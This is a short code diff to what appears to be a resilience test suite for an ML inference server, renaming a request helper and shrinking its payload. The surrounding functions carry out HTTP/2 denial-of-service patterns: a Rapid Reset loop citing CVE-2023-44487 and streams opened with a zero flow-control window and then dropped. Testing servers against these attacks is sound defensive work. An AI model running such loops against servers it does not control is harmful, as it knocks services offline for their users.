@@ -64,7 +64,7 @@ def drip(target: Target) -> None:
 def rapid_reset(target: Target) -> None:
     """Calls that are taken back as soon as they are made (CVE-2023-44487), all on one connection."""
     with Http2(target.address) as client:
-        body = _large_request()
+        body = _request()
         for _ in range(_RESETS):
             client.reset(client.open(METHOD, body))
             client.flush()
@@ -74,7 +74,7 @@ def no_answers_taken(target: Target) -> None:
     """Calls whose answers the caller leaves no room for; then it is gone."""
     with Http2(target.address, window=0) as client:
         for _ in range(_STALLED):
-            client.open(METHOD, _large_request())
+            client.open(METHOD, _request())
             client.flush()
         time.sleep(_HOLD)
         client.close(abruptly=True)
@@ -122,9 +122,9 @@ def _connected(target: Target) -> socket.socket:
     return socket.create_connection((host, int(port)), timeout=1.0)
 
 
-def _large_request() -> bytes:
-    """Small enough for the windows that a new connection gives."""
-    values = np.zeros((50, affine_model.WIDTH), np.float32)
+def _request() -> bytes:
+    """Few rows: the queue shall not fill up, and callers be refused."""
+    values = np.zeros((4, affine_model.WIDTH), np.float32)
     request = oip.ModelInferRequest(model_name=affine_model.NAME)
     request.inputs.add(name=affine_model.INPUT, datatype="FP32", shape=values.shape)
     request.raw_input_contents.append(values.tobytes())
